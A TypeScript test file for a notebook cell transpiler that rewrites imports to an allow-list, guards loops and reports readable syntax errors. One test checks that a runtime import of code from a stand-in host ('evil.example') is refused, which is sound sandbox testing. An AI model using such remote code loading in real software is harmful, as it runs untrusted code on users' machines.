import { test, expect } from "vitest";
import { transpileCell, CellSyntaxError } from "./transpile.ts";

const lines = (code: string) => code.split("\n").length;

test("transpileCell(source) keeps the reader's line structure", () => {
  const source = 'import {\n  tensor,\n  zeros,\n} from "@nnbook/nn";\nconst x: number[] = [1];\ninterface P {\n  a: number;\n}\nx';
  const js = transpileCell(source);
  expect(lines(js)).toBe(lines(source));
  expect(js.split("\n")[4]).toContain("const x");
});

test("transpileCell(source) turns imports into lookups of the allowed modules", () => {
  const js = transpileCell('import { tensor, nn as layers } from "@nnbook/nn";\nimport * as all from "@nnbook/nn";');
  expect(js).toContain('const { tensor, nn: layers } = __import("@nnbook/nn");');
  expect(js).toContain('const all = __import("@nnbook/nn");');
});

test("transpileCell(source) refuses other modules, naming the line", () => {
  const error = (() => { try { transpileCell('const a = 1;\nimport fs from "node:fs";'); } catch (e) { return e; } })();
  expect(error).toBeInstanceOf(CellSyntaxError);
  expect((error as CellSyntaxError).line).toBe(2);
  expect((error as Error).message).toMatch(/Cannot import "node:fs"/);
});

test("transpileCell(source) shows the last expression only", () => {
  const js = transpileCell("1 + 1;\nconst a = 2;\na * 3");
  expect(js).toBe("1 + 1;\nconst a = 2;\n__show((a * 3))");
  expect(transpileCell("const a = 2;")).not.toContain("__show");
});

test("transpileCell(source) guards every loop, braced or not", () => {
  const js = transpileCell("for (let i = 0; i < 3; i++) x();\nwhile (a) {\n  b();\n}\ndo c(); while (d);");
  expect(js).toContain("{__guard(1);x();}");
  expect(js).toContain("{__guard(2);");
  expect(js).toContain("{__guard(5);c();}");
});

test("transpileCell(source) reports a syntax error at the reader's line and column", () => {
  try {
    transpileCell("const a = 1;\nlet b = (;");
    expect.unreachable();
  } catch (error) {
    expect(error).toBeInstanceOf(CellSyntaxError);
    expect((error as CellSyntaxError).line).toBe(2);
    expect((error as CellSyntaxError).column).toBe(10);
  }
});

test("transpileCell(source) reports columns from 1 for errors found after type stripping", () => {
  try {
    transpileCell("const a = 1;\nconst a = 2;");
    expect.unreachable();
  } catch (error) {
    expect((error as CellSyntaxError).line).toBe(2);
    expect((error as CellSyntaxError).column).toBe(7);
  }
});

test("transpileCell(source) refuses import(…) at run time, naming its line", () => {
  expect(() => transpileCell('const a = 1;\nconst m = await import("https://evil.example/x.js");')).toThrow(expect.objectContaining({ name: "SyntaxError", line: 2, column: 17 }));
});

test("transpileCell(source) lets a cell import Plot", () => {
  expect(transpileCell('import * as Plot from "@observablehq/plot";\nPlot')).toContain('const Plot = __import("@observablehq/plot");');
});

test("transpileCell(code) words a syntax error for the reader, not the toolchain", () => {
  let message = "";
  try {
    transpileCell("const x = ;");
  } catch (error) {
    message = (error as Error).message;
  }
  expect(message).not.toMatch(/transforming|cell\.ts/);
  expect(message).toMatch(/cannot be read here/);
});
